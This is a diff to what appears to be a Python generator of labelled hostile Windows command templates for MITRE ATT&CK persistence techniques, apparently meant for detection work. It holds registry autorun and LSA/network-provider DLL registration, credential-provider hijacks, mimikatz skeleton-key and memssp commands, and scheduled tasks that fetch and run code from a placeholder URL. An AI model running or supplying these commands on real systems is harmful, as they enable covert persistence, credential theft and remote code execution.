@@ -30,15 +30,24 @@ powershell Set-ItemProperty 'HKLM:\Software\Microsoft\Windows NT\CurrentVersion\
 reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v «VmApplet|Taskman|AppSetup|mpnotify» /d "~f~.exe" /f
 reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v Shell /d "~f~.exe" /f
 """)
-hostile("libraries-registered-to-come-back", "Persistence", "T1547.001 T1556", r"""
+hostile("libraries-registered-to-come-back", "Persistence", "T1547.001", r"""
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\~n~" /v Driver /t REG_SZ /d "~n~.dll" /f
-reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "«Security Packages|Authentication Packages|Notification Packages»" /t REG_MULTI_SZ /d "scecli\0~n~" /f
+reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "«Security Packages|Authentication Packages»" /t REG_MULTI_SZ /d "scecli\0~n~" /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\~n~" /v DllName /d "~f~.dll" /f
-reg add "HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order" /v PROVIDERORDER /d "RDPNP,LanmanWorkstation,webclient,~n~" /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\~n~" /v Driver /d "~n~.dll" /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager" /v BootExecute /t REG_MULTI_SZ /d "autocheck autochk *\0~n~" /f
 reg add "HKLM\SOFTWARE\Microsoft\Cryptography\OID\EncodingType 0\CryptSIPDllVerifyIndirectData\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}" /v Dll /d "~f~.dll" /f
 """)
+hostile("logon-providers-registered", "Persistence", "T1556 T1547.001", r"""
+reg add "HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order" /v PROVIDERORDER /d "RDPNP,LanmanWorkstation,webclient,~n~" /f
+reg add "HKLM\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider" /v ProviderPath /t REG_EXPAND_SZ /d "~f~.dll" /f
+powershell "New-Item HKLM:\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider -Force; Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\~n~\NetworkProvider ProviderPath '~f~.dll'"
+reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\0~n~" /f
+copy /y ~f~.dll C:\Windows\System32\~n~.dll & reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /t REG_MULTI_SZ /d "rassfm\0scecli\0~n~" /f
+powershell Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa 'Notification Packages' @('scecli','~n~')
+reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\Credential Providers\{@guid@}" /ve /d ~n~ /f & reg add "HKCR\CLSID\{@guid@}\InprocServer32" /ve /d "~f~.dll" /f
+~d~mimikatz.exe "privilege::debug" "misc::«skeleton|memssp»" exit
+""", weight=0.6)
 hostile("libraries-loaded-by-every-program", "Persistence", "T1546", r"""
 reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs /d "~f~.dll" /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls" /v ~n~ /t REG_EXPAND_SZ /d "~f~.dll" /f
@@ -54,7 +63,6 @@ reg add "HKLM\SYSTEM\CurrentControlSet\Services\WinSock2\Parameters" /v Autodial
 """)
 hostile("file-types-and-screensavers-turned", "Persistence", "T1546", r"""
 assoc .txt=~n~file & ftype ~n~file="~f~.exe" "%1"
-cmd /c assoc .«hlp|log|txt|pdf»=~n~
 ftype txtfile="~f~.exe" %1
 reg add HKCU\Software\Classes\«txtfile|exefile|.txt|batfile»\shell\open\command /ve /d "~f~.exe %1" /f
 reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d "~f~.scr" /f
@@ -102,7 +110,7 @@ hostile("tasks-planned-by-strangers", "Persistence", "T1053.005", r"""
 schtasks /create /tn "«~n~|GoogleUpdateTaskMachine|OneDrive Sync|WindowsUpdateCheck|\Microsoft\Windows\@Word@\~n~»" /tr "~f~.exe" /sc «minute /mo 5|onlogon|onstart|hourly|daily /st 09:00|onidle /i 10» /f
 schtasks.exe /Create /F /RU SYSTEM /RL HIGHEST /SC ONSTART /TN ~n~ /TR "~f~.«bat|vbs|dll»"
 schtasks /create /sc minute /mo @n@ /tn ~n~ /tr "«mshta @url@|powershell -w hidden -enc ⟦iex(irm @url@)⟧|rundll32 ~f~.dll,Start|wscript //b ~f~.vbs|regsvr32 /s ~f~.dll»"
-SCHTASKS /Create /XML "~f~.xml" /TN "~n~" /F
+SCHTASKS /Create /XML "«C:\Users\Public\|C:\Windows\Fonts\|C:\PerfLogs\|C:\Users\@user@\Music\»~n~.xml" /TN "~n~" /F
 schtasks /change /tn "\Microsoft\Windows\«Defrag\ScheduledDefrag|UpdateOrchestrator\Reboot|CertificateServicesClient\UserTask»" /tr "~f~.exe" /ru SYSTEM
 schtasks /create /s @host@ /u @domain@\@user@ /p @pw@ /tn ~n~ /tr "cmd /c ~f~.exe" /sc once /st 23:55 /ru SYSTEM
 powershell "Register-ScheduledTask -TaskName '~n~' -Action (New-ScheduledTaskAction -Execute '~f~.exe') -Trigger (New-ScheduledTaskTrigger -AtLogOn) -RunLevel Highest -Force"
